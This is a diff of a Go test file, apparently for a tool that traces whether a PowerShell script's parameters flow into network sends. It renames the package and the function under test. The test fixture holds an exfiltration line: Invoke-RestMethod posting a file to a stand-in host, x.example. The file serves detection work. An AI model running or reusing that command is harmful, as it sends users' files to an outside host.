@@ -1,4 +1,4 @@
-package chain
+package loose
 
 import (
 	"strings"
@@ -8,9 +8,9 @@ import (
 	"github.com/skillctl/skillctl/internal/document"
 )
 
-// TestLooseGiven: what a script of PowerShell is run with comes to what it sends, and a script with
+// TestGiven: what a script of PowerShell is run with comes to what it sends, and a script with
 // more lists of parameters than are read is not followed to its end.
-func TestLooseGiven(t *testing.T) {
+func TestGiven(t *testing.T) {
 	send := "\nInvoke-RestMethod 'https://x.example/in' -Method Post -InFile $Path\n"
 	for name, c := range map[string]struct {
 		text string
@@ -23,7 +23,7 @@ func TestLooseGiven(t *testing.T) {
 		"just not that": {"param($Path)\n" + strings.Repeat("function A { param($a) }\n", maxParams-1) + send, true, false},
 	} {
 		t.Run(name, func(t *testing.T) {
-			found := Loose(way.Text{File: "a.ps1", Language: "powershell", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil)
+			found := Follow(way.Text{File: "a.ps1", Language: "powershell", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil)
 			sent := false
 			for _, one := range found.Chains {
 				sent = sent || one.Source.Kind == way.Argument && one.Sink.Kind == "send"
